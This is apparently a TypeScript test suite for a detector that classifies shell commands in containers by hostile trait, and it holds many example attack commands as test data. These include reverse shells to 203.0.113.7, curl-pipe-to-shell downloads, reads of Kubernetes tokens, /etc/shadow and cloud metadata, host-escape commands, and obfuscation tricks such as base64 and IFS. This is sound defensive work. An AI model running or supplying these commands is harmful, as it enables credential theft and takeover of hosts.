import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { betrayalsOf } from '../../core/commands/commands.ts';
import type { Trait } from '../../core/commands/traits.ts';

const traitsOf = (...argv: string[]): Trait[] => betrayalsOf(argv).map(({ trait }) => trait);
const sh = (script: string) => ['sh', '-c', script];
const base64 = (text: string) => Buffer.from(text).toString('base64');

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const SHADOW = '/etc/shadow';

describe('betrayalsOf', () => {
  it.each<[Trait, string[]]>([
    ['reads-token', ['cat', TOKEN]],
    ['reads-token', ['cat', '/run/secrets/kubernetes.io/serviceaccount/token']],
    ['reads-token', sh('cat /run/secrets/kubernetes.io/serviceaccount/*')],
    ['reads-token', sh('cat /var/run/sec*/kub*/serv*/tok*')],
    ['reads-token', ['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token']],
    ['reads-token', ['cat', '/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token']],
    ['reads-token', ['cat', '/proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['reads-token', ['cat', '/proc/self/root/run/secrets/kubernetes.io/serviceaccount/..data/token']],
    ['reads-token', ['cat', '/var/run/../run//secrets/./kubernetes.io/serviceaccount/token']],
    ['reads-token', sh('cd /var/run/secrets; cd kubernetes.io/serviceaccount && cat token')],
    ['reads-token', sh('cat < /var/run/secrets/kubernetes.io/serviceaccount/token')],
    ['reads-token', sh('T=$(</var/run/secrets/kubernetes.io/serviceaccount/token); echo $T')],
    ['reads-token', sh('find /var/run/secrets/kubernetes.io -name token | xargs cat')],
    ['reads-token', ['find', '/var/run/secrets/kubernetes.io', '-name', 'token', '-exec', 'cat', '{}', ';']],
    ['reads-token', ['dd', `if=${TOKEN}`]],
    ['reads-token', ['tar', 'czf', '-', '/var/run/secrets/kubernetes.io/serviceaccount']],
    ['reads-token', ['curl', '-k', '-d', `@${TOKEN}`, 'http://web/x']],
    ['reads-token', ['python3', '-c', `print(open('${TOKEN}').read())`]],
    ['reads-token', ['python3', '-c', "print(open('/var/run/secrets/'+'kubernetes.io/serviceaccount/token').read())"]],
    ['reads-token', sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE')],
    ['reads-token', sh('for f in /run/secrets/kubernetes.io/serviceaccount/*; do cat $f; done')],
    ['reads-token', [`cat ${TOKEN}`]],
    ['reads-token', ['sh', '-c', 'cat "$0"', TOKEN]],
    ['reads-token', ['sh', '-c', '"$@"', '_', 'cat', TOKEN]],
    ['reads-credential', ['cat', SHADOW]],
    ['reads-credential', ['cat', '../../../etc/shadow']],
    ['reads-credential', sh('cat /???/sh?d*w')],
    ['reads-credential', sh('while read l; do echo $l; done < /etc/shadow')],
    ['reads-credential', ['cat', '/root/.aws/credentials']],
    ['reads-credential', sh('cat ~/.ssh/id_rsa')],
    ['reads-credential', sh('cat $HOME/.kube/config')],
    ['reads-credential', ['cat', '/home/app/.docker/config.json']],
    ['reads-credential', ['cat', '/proc/1/environ']],
    ['reads-credential', sh("tr '\\0' '\\n' < /proc/self/environ")],
    ['reads-credential', ['cat', '/host/etc/kubernetes/kubelet/kubeconfig']],
    ['reads-credential', ['cat', '/host/var/lib/kubelet/kubeconfig']],
    ['reads-credential', ['cat', '/etc/tls/server.key']],
    ['reads-credential', sh('echo /etc/shadow | xargs cat')],
    ['reads-credential', sh('xargs cat <<< /etc/shadow')],
    ['reads-credential', sh("printf '/etc/shadow' | while read f; do cat $f; done")],
    ['reads-credential', sh("echo 'cat /etc/shadow' > /tmp/x; sh /tmp/x")],
    ['reads-credential', sh('cat $(find / -name shadow)')],
    ['reads-credential', sh('find / -name id_rsa -exec cat {} +')],
    ['reads-credential', ['unheard-of', '/root/.aws/credentials']],
    ['reads-secret', ['cat', '/app/secrets/database.json']],
    ['reads-secret', ['cat', '.env']],
    ['reads-accounts', ['cat', '/etc/passwd']],
    ['dumps-environment', ['env']],
    ['dumps-environment', ['printenv']],
    ['dumps-environment', ['printenv', 'DB_PASSWORD']],
    ['dumps-environment', sh('env | grep -i key')],
    ['dumps-environment', sh('export -p')],
    ['dumps-environment', sh('echo $DB_PASSWORD')],
    ['dumps-environment', ['node', '-e', 'console.log(process.env)']],
    ['dumps-environment', ['python3', '-c', 'import os; print(os.environ)']],
    ['looks-at-credentials', ['ls', '-la', '/var/run/secrets/kubernetes.io/serviceaccount']],
    ['cloud-metadata', ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']],
    ['cloud-metadata', ['curl', '169.254.169.254']],
    ['cloud-metadata', ['curl', 'http://2852039166/']],
    ['cloud-metadata', ['curl', 'http://0xa9fea9fe/']],
    ['cloud-metadata', ['curl', 'http://0251.0376.0251.0376/']],
    ['cloud-metadata', ['curl', 'http://169.254.43518/']],
    ['cloud-metadata', ['curl', 'http://[::ffff:169.254.169.254]/']],
    ['cloud-metadata', ['curl', 'http://[fd00:ec2::254]/latest/']],
    ['cloud-metadata', ['curl', 'http://169.254.170.23/v1/credentials']],
    ['cloud-metadata', ['wget', '-qO-', 'http://instance-data/latest/']],
    ['cloud-metadata', ['wget', '-qO-', 'http://169.254.169.254.nip.io/']],
    ['cloud-metadata', ['curl', 'http://innocent.example.com/latest/meta-data/']],
    ['cloud-metadata', ['nc', '169.254.169.254', '80']],
    ['cloud-metadata', sh('exec 3<>/dev/tcp/169.254.169.254/80; cat <&3')],
    ['cloud-metadata', ['python3', '-c', "import urllib.request as u;u.urlopen('http://169.254.'+'169.254/')"]],
    ['cloud-metadata', sh('curl $AWS_CONTAINER_CREDENTIALS_FULL_URI')],
    ['mints-credential', ['aws', 'configure', 'export-credentials']],
    ['reverse-shell', sh('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')],
    [
      'reverse-shell',
      ['bash', '-c', 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done'],
    ],
    ['reverse-shell', sh('0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196')],
    ['reverse-shell', ['nc', '-e', '/bin/sh', '203.0.113.7', '4444']],
    ['reverse-shell', ['busybox', 'nc', '203.0.113.7', '4444', '-e', 'sh']],
    ['reverse-shell', ['/bin/ncat', '--sh-exec', 'bash', '203.0.113.7', '4444']],
    ['reverse-shell', sh('rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f')],
    [
      'reverse-shell',
      sh('mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s'),
    ],
    ['reverse-shell', sh('telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445')],
    ['reverse-shell', ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh,pty,stderr']],
    [
      'reverse-shell',
      ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)'],
    ],
    [
      'reverse-shell',
      ['perl', '-e', 'use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");'],
    ],
    [
      'reverse-shell',
      ['ruby', '-rsocket', '-e', 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
    ],
    ['reverse-shell', ['php', '-r', '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");']],
    [
      'reverse-shell',
      ['node', '-e', 'require("net").connect(4444,"203.0.113.7",function(){require("child_process").spawn("sh")})'],
    ],
    [
      'reverse-shell',
      ['lua', '-e', "require('socket');t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3')"],
    ],
    [
      'reverse-shell',
      ['awk', 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while((s|& getline c)>0)while((c|&getline)>0)print $0|&s}'],
    ],
    ['reverse-shell', ['timeout', '-s', 'KILL', '60', 'nc', '-e', 'sh', '203.0.113.7', '1']],
    ['reverse-shell', sh('/bin/n? -e /bin/sh 203.0.113.7 4444')],
    ['reverse-shell', sh('sh < <(nc 203.0.113.7 4444)')],
    ['reverse-shell', sh('openssl s_client -quiet -connect 203.0.113.7:443 | bash')],
    [
      'reverse-shell',
      [
        'perl',
        '-MIO',
        '-e',
        '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);system$_ while<>',
      ],
    ],
    ['raw-socket', ['zsh', '-c', 'zmodload zsh/net/tcp; ztcp 203.0.113.7 4444']],
    ['terminal-upgrade', ['python3', '-c', 'import pty; pty.spawn("/bin/bash")']],
    ['raw-socket', sh('tar cz /data | nc 203.0.113.7 4444')],
    ['raw-socket', sh('cat /data/x > /dev/tcp/203.0.113.7/443')],
    ['tunnel', ['/tmp/chisel', 'client', '203.0.113.7:80', 'R:socks']],
    ['tunnel', ['ssh', '-fNR', '8080:localhost:80', 'u@203.0.113.7']],
    ['tunnel', ['socat', 'TCP-LISTEN:8080,fork', 'TCP:203.0.113.7:80']],
    ['enters-host', ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash']],
    ['enters-host', ['nsenter', '--target=1', '--mount']],
    ['enters-host', ['chroot', '/host', 'bash']],
    ['enters-host', sh('sudo -n /usr/sbin/chroot /proc/1/root')],
    ['enters-host', ['docker', '-H', 'unix:///host/run/docker.sock', 'run', '-v', '/:/mnt', 'alpine']],
    ['runtime-socket', ['curl', '--unix-socket', '/var/run/docker.sock', 'http://d/containers/json']],
    ['kernel-escape', sh("echo '|/tmp/x' > /proc/sys/kernel/core_pattern")],
    ['runs-download', sh('curl -s http://203.0.113.7/x | sh')],
    ['runs-download', sh('wget -O- http://files.example.com/x | bash -s -- --now')],
    ['runs-download', sh('bash <(curl -s https://files.example.com/x)')],
    ['runs-download', sh('sh -c "$(curl -fsSL https://files.example.com/x)"')],
    ['runs-download', sh('eval `wget -qO- http://files.example.com/x`')],
    ['runs-download', sh('curl -o /tmp/x http://10.0.3.9/x && chmod +x /tmp/x && /tmp/x')],
    ['runs-download', sh('wget -q http://10.0.3.9/run.py; python3 run.py')],
    ['runs-download', sh('curl -s http://x | base64 -d | sh')],
    ['runs-download', ['python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://10.0.3.9/x").read())']],
    ['download', ['curl', '-o', '/tmp/x', 'http://files.example.com/healthz']],
    ['download', ['curl', 'files.example.com/x']],
    ['download', ['busybox', 'wget', 'http://files.example.com/x']],
    ['download', ['wget', 'http://10.0.3.9:8000/linpeas.sh']],
    ['download', ['curl', '-sO', 'http://10.0.3.9:8000/x']],
    ['download-address', ['wget', '203.0.113.7/x']],
    ['download-address', ['curl', '-o', '/dev/null', '-o', '/tmp/x', 'http://203.0.113.7/x']],
    ['sends-file', ['curl', '-T', '/data/x', 'https://files.example.com/']],
    ['sends-file', ['curl', '--data-binary', '@/data/x', 'https://files.example.com/']],
    ['sends-file', ['aws', 's3', 'cp', '/data', 's3://bucket/', '--recursive']],
    ['installs-package', ['apk', '--no-cache', 'add', 'nmap']],
    ['installs-package', sh('apt-get update && apt-get install -y netcat')],
    ['installs-package', ['python3', '-m', 'pip', 'install', 'requests']],
    ['installs-package', ['npm', 'i', 'x']],
    ['file-out', ['tar', 'cf', '-', '/app/data']],
    ['file-out', ['tar', '-C', '/data', '-cf', '-', '.']],
    ['file-out', ['tar', '--create', '--file=-', '/app/data']],
    ['file-out', ['tar', 'c', '/app/data']],
    ['file-out', ['busybox', 'tar', 'czvf', '-', '/app/data']],
    ['file-out', ['bsdtar', '-czf-', '/app/data']],
    ['file-out', sh('tar cf - /app/data | gzip | base64')],
    ['file-out', ['base64', '/app/data/x']],
    ['file-out', ['dd', 'if=/app/data/x']],
    ['file-out', ['cat', '/backup/shop.sql.gz']],
    ['takes-credential-directory', ['tar', 'cf', '-', '/etc']],
    ['takes-credential-directory', ['tar', 'cf', '-', '-C', '/', 'root']],
    ['takes-credential-directory', ['tar', 'cf', '-', '/app/secrets/credentials.json']],
    ['file-in', ['tar', '-xmf', '-', '-C', '/tmp']],
    ['file-in', ['tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/']],
    ['file-in', sh('cat > /tmp/x')],
    ['file-in', sh('base64 -d > /tmp/x')],
    ['hidden-script', sh('echo $PAYLOAD | base64 -d | sh')],
    ['hidden-script', sh('eval "$(echo $X | base64 --decode)"')],
    ['attack-tool', ['/tmp/xmrig', '-o', 'pool:3333']],
    ['attack-tool', ['/tmp/xmrig-6.21', '--config=/tmp/c.json']],
    ['attack-tool', ['/tmp/cdk_linux_amd64', 'evaluate']],
    ['reads-token', ['find', '/', '-path', '*serviceaccount/token', '-exec', 'cat', '{}', '+']],
    [
      'reads-token',
      ['cat', '/host/var/lib/kubelet/pods/0b6f/volumes/kubernetes.io~projected/kube-api-access-7x2vq/token'],
    ],
    ['reads-credential', sh("find / -name '*token*' | xargs cat")],
    ['reads-credential', sh("find / -name '*.pem' -exec cat {} ';'")],
    ['reads-credential', sh('cat /proc/$$/environ')],
    ['reads-credential', sh('cat /proc/$(pidof java)/environ')],
    ['reads-credential', sh('for i in $(seq 1 9); do cat /proc/$i/environ; done')],
    ['reads-credential', sh('cat /root/.a*/cred*')],
    ['reads-credential', ['getent', 'shadow']],
    ['reads-accounts', ['getent', 'passwd']],
    ['dumps-environment', ['env', '-u', 'PATH']],
    ['dumps-environment', ['ps', 'auxe']],
    ['dumps-environment', sh('export')],
    ['cloud-metadata', ['curl', '--resolve', 'x:80:169.254.169.254', 'http://x/']],
    ['cloud-metadata', ['curl', 'http://proxy/?u=http%3A%2F%2F169.254.169.254%2F']],
    ['cloud-metadata', sh('curl http://$(printf "%d.%d.%d.%d" 169 254 169 254)/')],
    ['reverse-shell', ['php', '-r', '$s=fsockopen("203.0.113.7",9001);`sh <&3 >&3 2>&3`;']],
    ['reverse-shell', ['php', '-r', '$s=fsockopen("203.0.113.7",9001);shell_exec("sh");']],
    ['reverse-shell', sh('curl -Ns telnet://203.0.113.7:9001 | sh')],
    ['reverse-shell', sh('(sh)0>/dev/tcp/203.0.113.7/4444')],
    ['reverse-shell', ['busybox', 'telnetd', '-l', '/bin/sh', '-p', '9999']],
    ['reverse-shell', sh('echo "* * * * * bash -i >& /dev/tcp/203.0.113.7/1 0>&1" | crontab -')],
    [
      'reverse-shell',
      ['deno', 'eval', 'const c=await Deno.connect({hostname:"203.0.113.7",port:1});Deno.run({cmd:["sh"]})'],
    ],
    ['raw-socket', sh('nc 203.0.113.7 443 < /app/data/x')],
    ['raw-socket', ['openssl', 's_client', '-quiet', '-connect', '203.0.113.7:443']],
    ['tunnel', ['/tmp/chisel_1.9_linux_amd64', 'client', '203.0.113.7', 'R:socks']],
    ['tunnel', ['python3', '-m', 'http.server', '8000']],
    ['enters-host', ['python3', '-c', 'import os;os.chroot("/host")']],
    ['download', sh('c$\u007bz}url http://files.example.com/x')],
    ['download', ['perl', '-MLWP::Simple', '-e', 'getstore("http://files.example.com/x","/tmp/x")']],
    ['file-out', sh('cat /app/data/x | base64')],
    ['file-out', ['rsync', '--server', '--sender', '-logDtpre.iLsfxC', '.', '/app/data']],
    ['file-in', ['install', '-m755', '/dev/stdin', '/tmp/x']],
    ['tool', ['kubectl', 'get', 'pods']],
    ['shell', ['/bin/bash']],
    ['shell', ['sh', '-c', 'clear; (bash || ash || sh)']],
    ['shell', ['env', 'TERM=xterm', 'bash', '-i']],
  ])('sees %s in %j', (trait, argv) => {
    expect(traitsOf(...argv)).toContain(trait);
  });

  it.each<[string[]]>([
    [['ls', '/app']],
    [['php', 'artisan', 'migrate:status']],
    [['python', 'manage.py', 'migrate']],
    [['node', '/app/socket/execute.js']],
    [['cat', '/etc/resolv.conf']],
    [['cat', '/etc/kubernetes-docs/readme']],
    [['ls', '/etcd-data']],
    [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace']],
    [['cat', '/etc/ssl/certs/ca.pem']],
    [['nginx', '-g', 'ssl_certificate_key /etc/tls/server.key;']],
    [['cat', '/app/token-service/index.js']],
    [['test', '-f', TOKEN]],
    [['operator', 'collector', 'sync']],
    [sh('</dev/tcp/localhost/5432')],
    [sh('echo > /dev/tcp/127.0.0.1/8080')],
    [sh('(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && echo up')],
    [sh('timeout 1 bash -c "</dev/tcp/db/5432"')],
    [['nc', '-z', 'db', '5432']],
    [['nc', '-vzw3', 'db', '5432']],
    [sh('echo ruok | nc localhost 2181')],
    [sh('echo "show stat" | socat stdio UNIX-CONNECT:/var/run/haproxy.sock')],
    [['openssl', 's_client', '-connect', 'db:443']],
    [['curl', 'http://localhost:8080/healthz']],
    [['curl', '-fsS', 'http://127.0.0.1:9090/-/ready']],
    [['grep', '-r', 'token', 'app.log']],
    [['mysql', '--defaults-file=/root/.my.cnf', '-e', 'select 1']],
    [['node', '-e', 'console.log(process.env.NODE_ENV)']],
    [['ssh', '-i', '/root/.ssh/id_rsa', 'git@github.com']],
    [sh('cd /app && grep password settings.py')],
    [['curl', 'http://web:8080/api']],
    [['curl', 'http://10.0.3.9:9090/metrics']],
    [['wget', '-qO-', 'http://10.0.3.9:9090/metrics']],
    [['wget', '-q', '-O', '/dev/null', 'http://10.0.3.9:9090/']],
    [['curl', '-H', 'X-Vault-Token: x', 'http://vault:8200/v1/secret/data']],
    [['curl', 'http://web.shop.svc.cluster.local/api']],
    [['curl', 'http://redis.shop-prod:6379']],
    [['cdk', 'deploy']],
    [['hydra', 'serve', 'all']],
    [['nc', '-v', '203.0.113.7', '443']],
    [['openssl', 's_client', '-connect', '203.0.113.7:443', '-servername', 'shop.example.com']],
    [['ps', 'aux']],
    [['ps', '-C', 'node', '-o', 'pid']],
    [['getent', 'passwd', 'app']],
    [sh('export RAILS_ENV=production; bin/rake about')],
    [sh('set -x && bin/rake about')],
    [['curl', '-sk', 'https://kubernetes.default.svc/healthz']],
    [['curl', '-s', 'https://shop.example.com/healthz']],
    [['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', 'https://shop.example.com/cart']],
    [['curl', 'http://169.254.20.10/']],
    [['dig', '@169.254.169.253', 'example.com']],
    [['tar', 'czf', '/backup/data.tgz', '/app/data']],
    [['tar', 'czf', 'backup.tar.gz', '/app/data']],
    [sh('tar cf - /app/data | gzip > /backup/data.tgz')],
    [sh('pg_dump shop > /backup/shop.sql')],
    [['env', 'RAILS_ENV=production', 'bundle', 'exec', 'rake', 'db:migrate']],
    [['printenv', 'HOSTNAME']],
    [['npm', 'run', 'build']],
    [['pip', 'list']],
    [['patronictl', 'list']],
    [['redis-cli', 'ping']],
    [['mysqladmin', 'ping']],
    [['python3', '-c', 'import socket; socket.create_connection(("localhost", 5432))']],
    [['fsfreeze', '--freeze', '/var/lib/postgresql']],
    [['echo', 'hello', 'world']],
    [[]],
  ])('finds nothing in %j', (argv) => {
    expect(betrayalsOf(argv)).toEqual([]);
  });

  it('is total', () => {
    const junk = fc.string({ unit: fc.constantFrom(...'ab /$(){}<>|;&\\\'"`=*?[]-\n~.0x'), maxLength: 80 });
    fc.assert(
      fc.property(
        fc.array(fc.oneof(junk, fc.string({ unit: 'binary' })), { maxLength: 8 }),
        (argv) => void betrayalsOf(argv),
      ),
    );
    fc.assert(
      fc.property(junk, (script) => void betrayalsOf(sh(script))),
      { numRuns: 1000 },
    );
  });

  const DISGUISES: readonly ((command: string) => string[])[] = [
    (command) => command.split(' '),
    (command) => [command],
    (command) => ['/bin/bash', '-lc', command],
    (command) => ['sh', '-e', '-o', 'pipefail', '-c', command],
    (command) => ['env', '-i', 'A=b', 'timeout', '-k', '5', '60', 'nohup', ...command.split(' ')],
    (command) => ['sudo', '-n', '-u', 'root', ...command.split(' ')],
    (command) => ['busybox', ...command.split(' ')],
    (command) => ['su', '-c', command],
    (command) => sh(`true; ${command} 2>/dev/null || :`),
    (command) => sh(`if true; then ( ${command} ); fi`),
    (command) => sh(command.replaceAll(' ', '$\u007bIFS}')),
    (command) => sh(command.replaceAll(' ', '$IFS$9')),
    (command) => sh(`{${command.replaceAll(' ', ',')}}`),
    (command) => sh(command.replace(/[a-z](?=[a-z])/g, "$&''")),
    (command) => sh(command.replace(/[a-z](?=[a-z])/g, '$&\\')),
    (command) => sh(command.replace(/[a-z](?=[a-z])/g, '$&$@')),
    (command) =>
      sh(
        command.replace(/\S+/g, (word) => `$'${[...word].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`),
      ),
    (command) =>
      sh(
        command
          .split(' ')
          .map((word, index) => `v${index}="${word}"`)
          .join(';') +
          ';' +
          command
            .split(' ')
            .map((_, index) => `$v${index}`)
            .join(' '),
      ),
    (command) => sh(`eval "${command}"`),
    (command) => sh(`echo ${base64(command)} | base64 -d | sh`),
    (command) => sh(`bash -c "$(echo ${base64(base64(command))} | base64 -d | base64 -d)"`),
    (command) => sh(`bash <<< "${command}"`),
    (command) => sh(`echo "${[...command].reverse().join('')}" | rev | sh`),
    (command) => sh(`echo ${Buffer.from(command).toString('hex')} | xxd -r -p | sh`),
    (command) => sh(`x=$(${command}); echo "$x"`),
    (command) => sh(`echo \`${command}\``),
    (command) => sh(`sh <<EOF\n${command}\nEOF`),
    (command) => ['python3', '-c', `import os; os.system("${command}")`],
    (command) => ['perl', '-e', `exec '${command}'`],
    (command) => sh(`cat <<'EOF' | base64 -d | bash\n${base64(command)}\nEOF`),
  ];
  const SECRETS: readonly (readonly [Trait, string])[] = [
    ['reads-token', `cat ${TOKEN}`],
    ['reads-credential', 'base64 /proc/1/root/etc/shadow'],
    ['cloud-metadata', 'curl -s http://169.254.169.254/latest/'],
    ['reverse-shell', 'nc -e /bin/sh 203.0.113.7 4444'],
    ['enters-host', 'nsenter -t 1 -m -- id'],
    ['download-address', 'wget -q http://203.0.113.7/payload'],
  ];

  it.each(DISGUISES.map((disguise, index) => [index, disguise] as const))('sees through disguise %i', (_, disguise) => {
    for (const [trait, command] of SECRETS)
      expect(traitsOf(...disguise(command)), disguise(command).join(' ')).toContain(trait);
  });

  it('sees through disguises inside disguises', () => {
    const words = fc.constantFrom(...SECRETS);
    const nested = fc.constantFrom(...[2, 3, 8, 9, 19, 26]).map((index) => DISGUISES[index] ?? sh);
    fc.assert(
      fc.property(words, nested, nested, ([trait, command], inner, outer) => {
        const script = inner(command)
          .map((word) => `'${word.replaceAll("'", "'\\''")}'`)
          .join(' ');
        expect(traitsOf(...outer(script))).toContain(trait);
      }),
    );
  });

  it('calls a script of more commands than people write a hidden one', () => {
    expect(traitsOf(...sh(`${':;'.repeat(20_000)}cat /etc/shadow`))).toEqual(['hidden-script']);
  });

  // What is not linear here takes minutes.
  it.each([
    ...[
      '$(',
      '`',
      '{a,b}',
      '"$(',
      'a|',
      'sh|',
      "sh -c '",
      'env ',
      '/*',
      '169.254.',
      '"\'`',
      'AAAAAAAAAAA=',
      'cd a;',
      'a',
    ],
    ...['eval ', '${a:-', '<(', 'curl x;', 'mkfifo a;', 'echo a|base64 -d|', '../', 'http://a.b/', 'cat /etc/shadow;'],
  ])('ends soon on text made to keep it busy, of %j', (piece) => {
    const text = piece.repeat(40_000 / piece.length);
    for (const argv of [sh(text), [text], ['python3', '-c', text], text.split(' ')]) betrayalsOf(argv);
  });

  it('ends soon on a variable that doubles at every turn', () => {
    betrayalsOf(sh(`a=xxxxxxxx;${'a=$a$a;'.repeat(200)}echo $a`));
  });
});
